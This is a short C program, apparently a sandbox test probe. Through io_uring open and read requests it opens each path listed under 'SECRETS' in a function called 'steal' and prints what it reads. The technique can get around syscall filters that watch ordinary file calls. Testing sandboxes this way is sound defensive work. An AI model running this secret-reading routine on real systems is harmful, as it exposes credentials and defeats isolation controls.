// Opens and reads the user's files through io_uring.
#include "uring.h"

static void steal(const char *path) {
    struct io_uring_sqe entry = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path, .open_flags = O_RDONLY};
    int fd = ring_do(&entry);
    if (fd < 0) return;
    char bytes[4096];
    struct io_uring_sqe more = {.opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)bytes, .len = sizeof bytes};
    int len = ring_do(&more);
    if (len > 0) print_tokens(bytes, len);
}

int main(void) {
    bounded();
    if (!ring_open()) unsupported("io_uring is off");
    each_path("SECRETS", steal);
    return 0;
}
